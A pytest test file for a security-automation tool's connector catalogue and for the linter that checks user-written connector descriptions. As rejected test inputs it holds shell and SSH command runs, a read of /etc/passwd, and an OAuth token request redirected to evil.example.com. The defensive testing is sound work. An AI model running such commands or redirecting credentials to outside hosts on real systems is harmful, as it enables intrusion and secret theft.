from __future__ import annotations

import pytest
from tests.unit.connectors.support import catalogue

from tocsin.base.resources import data_folder, resource_path
from tocsin.connectors.errors import DuplicateConnectorError, UnknownConnectorError, UnreadableDescriptionError
from tocsin.connectors.lint import lint_own
from tocsin.connectors.registry import get_connector, load_catalogue, read_folders, read_own
from tocsin.formats import read_connector
from tocsin.model.catalogue import Effect

STARTER = resource_path("starters", "connector.yaml").read_text(encoding="utf-8")
HEAD = "tocsin_connector: 1\nid: mine\ntitle: Mine\ncategory: general\ndocs: https://docs.example.com/\n"
REST = "addresses: {main: {title: A}}\nsign_in: {kind: none}\nhealth: h\nactions: {}\n"


def test_the_products_are_shipped():
    assert list(catalogue().connectors) == [
        "abuseipdb", "active_directory", "awx", "crowdsec", "defender", "dns", "elasticsearch", "entra", "falcon",
        "fortigate", "graph_mail", "http_request", "imap", "jira", "keycloak", "ldap", "mattermost", "misp", "nessus",
        "nftables", "nmap", "openscap", "opensearch", "opnsense", "report_folder", "request_tracker", "smtp", "splunk",
        "suricata", "taxii", "thehive", "tocsin", "virustotal", "wazuh",
    ]  # fmt: skip


@pytest.mark.parametrize("category", ["siem", "edr", "firewall", "threat_intel", "identity", "ticketing"])
def test_a_kind_of_product_has_two_vendors_that_can_stand_for_each_other(category):
    offered = [
        {action.does for action in connector.actions.values() if action.does}
        for connector in catalogue().connectors.values()
        if connector.category == category
    ]
    assert len(offered) >= 2
    assert all(common for common in offered)
    assert len(set.intersection(*offered)) >= {"siem": 2, "edr": 4, "firewall": 3, "identity": 4, "ticketing": 3}.get(
        category, 1
    )


def test_the_vocabulary_has_what_the_definitions_name():
    assert list(catalogue().vocabulary) == [
        "siem.get_alert", "siem.add_note", "edr.find_endpoints", "edr.get_endpoint", "edr.isolate_endpoint",
        "edr.release_endpoint", "firewall.block_address", "firewall.unblock_address", "firewall.list_blocks",
        "firewall.end_connections", "threat_intel.lookup_ip", "identity.find_user", "identity.get_user",
        "identity.list_sessions", "identity.disable_user", "identity.enable_user", "identity.end_sessions",
        "identity.create_user", "identity.list_groups", "identity.add_to_group", "identity.remove_from_group",
        "ticketing.create", "ticketing.get", "ticketing.comment", "ticketing.close", "threat_intel.lookup_hash",
        "threat_intel.add_indicator", "threat_intel.find_indicators", "threat_intel.list_indicators",
        "vulnerability.get_scan", "vulnerability.start_scan", "vulnerability.list_hosts", "vulnerability.list_findings",
        "ids.watch_address", "ids.unwatch_address", "ids.get_watch", "ids.list_alerts", "vulnerability.scan_ports",
        "messaging.post", "messaging.send_mail", "patching.run_job", "patching.get_job", "mailbox.find_messages",
        "mailbox.get_message", "mailbox.quarantine_message", "mailbox.restore_message", "mailbox.purge_message",
    ]  # fmt: skip


def test_every_action_of_the_vocabulary_is_offered_by_a_product():
    offered = {action.does for one in catalogue().connectors.values() for action in one.actions.values()}
    assert set(catalogue().vocabulary) <= offered


def test_own_descriptions_are_added(tmp_path):
    (tmp_path / "mine.yaml").write_text(STARTER, encoding="utf-8")
    assert "my_product" in load_catalogue([tmp_path, tmp_path / "not-there"]).connectors


def told_of(text):
    """What keeps an own description from being used, in one text."""
    connector = read_connector(text.encode(), "mine.yaml").value
    assert connector
    return " ".join(problem.message for problem in lint_own(connector, catalogue().vocabulary))


@pytest.mark.parametrize(
    ("lie", "told"),
    [
        ("request: DELETE /api/status\n      reads: true", "DELETE is never a read"),
        ("request: PUT /api/status", "is sent with PUT"),
        ("request: GET https://elsewhere.example.com/", "not a method and a path"),
        ("request: GET //elsewhere.example.com/", "not a method and a path"),
        ("request: PROGRAM run\n      reads: true\n      json: {program: sh}", "may use “PROGRAM run”"),
        ("request: SSH run\n      reads: true\n      json: {command: id}", "may use “SSH run”"),
        ("request: SURICATA read_log\n      json: {path: /etc/passwd}", "may use “SURICATA read_log”"),
        ("request: SURICATA ask\n      reads: true\n      json: {socket: /run/x}", "may use “SURICATA ask”"),
        ("request: DNS look_up\n      json: {name: x}", "may use “DNS look_up”"),
        ("request: GET /{{ secret.api_key }}", "“secret” means nothing here"),
        ("request: GET /x\n      query: {q: 'a:{{ option.page_size }}'}", "not quoted"),
    ],
)
def test_an_own_description_that_does_what_it_may_not_is_told(lie, told):
    assert told in told_of(STARTER.replace("request: GET /api/status", lie))


def test_the_token_of_an_own_description_is_asked_of_its_own_server():
    way = "kind: oauth2_client\n  request: POST https://evil.example.com/token\n  form: {}"
    own = '  in: header\n  name: X-Api-Key\n  value: "{{ secret.api_key }}"\n'
    assert "not a method and a path" in told_of(STARTER.replace("kind: api_key", way).replace(own, ""))


LIE = STARTER.replace("request: GET /api/status", "request: DELETE /api/status\n      reads: true")
SHIPPED_JIRA = (data_folder("resources") / "connectors" / "jira.yaml").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("text", "code", "line", "told"),
    [
        (LIE.replace("id: my_product", "id: other"), "TOC-E074", 19, "DELETE is never a read"),
        (STARTER.replace("title: My", "titel: My"), "TOC-E013", 1, "“title” is missing"),
        ("a: [", "TOC-E011", 2, "not YAML"),
        ("", "TOC-E024", 1, ""),
        (SHIPPED_JIRA, "TOC-E066", 2, "described twice, in “what comes with Tocsin” and “b.yaml”"),
        (STARTER, "TOC-E066", 2, "described twice, in “a.yaml” and “b.yaml”"),
        (None, "TOC-E010", 0, "cannot be opened"),
    ],
)
def test_one_broken_file_takes_nothing_from_the_others_and_is_told_with_file_line_and_code(
    tmp_path, text, code, line, told
):
    (tmp_path / "a.yaml").write_text(STARTER, encoding="utf-8")
    broken = tmp_path / "b.yaml"
    broken.mkdir() if text is None else broken.write_text(text, encoding="utf-8")
    (tmp_path / "c.yaml").write_text(STARTER.replace("id: my_product", "id: third"), encoding="utf-8")
    loaded = load_catalogue([tmp_path])
    assert set(loaded.connectors) - set(catalogue().connectors) == {"my_product", "third"}
    [_, found, _] = read_own([tmp_path], catalogue())
    first = found.problems[0]
    assert (found.connector, first.file) == (None, str(broken))
    assert told in first.message
    assert (first.code, first.line) == (code, line)


def test_what_nobody_reviewed_counts_as_destructive_whatever_it_says_of_itself(tmp_path):
    (tmp_path / "mine.yaml").write_text(STARTER, encoding="utf-8")
    [own] = read_own([tmp_path], catalogue())
    unseen, seen = (load_catalogue([tmp_path], is_reviewed=marks.__contains__) for marks in (set(), {own.mark}))
    assert unseen.find_facts("my_product.health").effect is Effect.DESTRUCTIVE
    assert seen.find_facts("my_product.health").effect is Effect.READ
    assert (unseen.unreviewed, seen.unreviewed) == (frozenset({"my_product"}), frozenset())
    assert unseen.find_facts("jira.health") == catalogue().find_facts("jira.health")
    assert unseen.connectors["my_product"].hash == seen.connectors["my_product"].hash


def test_a_second_description_of_a_product_is_refused(tmp_path):
    (tmp_path / "a.yaml").write_text(HEAD + REST, encoding="utf-8")
    (tmp_path / "b.yaml").write_text(HEAD + REST, encoding="utf-8")
    with pytest.raises(DuplicateConnectorError, match=r"“a\.yaml” and “b\.yaml”"):
        read_folders([tmp_path])


@pytest.mark.parametrize(
    ("text", "line"), [(HEAD + "adresses: {}\n" + REST, 6), ("tocsin_connector: 2\n", 1), ("a: [", 1), ("", 0)]
)
def test_a_file_with_faults_is_refused_with_the_place(tmp_path, text, line):
    (tmp_path / "mine.yaml").write_text(text, encoding="utf-8")
    with pytest.raises(UnreadableDescriptionError) as caught:
        read_folders([tmp_path])
    assert caught.value.place
    assert (caught.value.place.file, caught.value.place.line >= line) == ("mine.yaml", True)


def test_an_unknown_connector_offers_the_closest():
    with pytest.raises(UnknownConnectorError, match="Did you mean “opnsense”"):
        get_connector(catalogue(), "opnsens")


def test_a_known_connector_is_given():
    assert get_connector(catalogue(), "jira").title == "Jira Cloud"
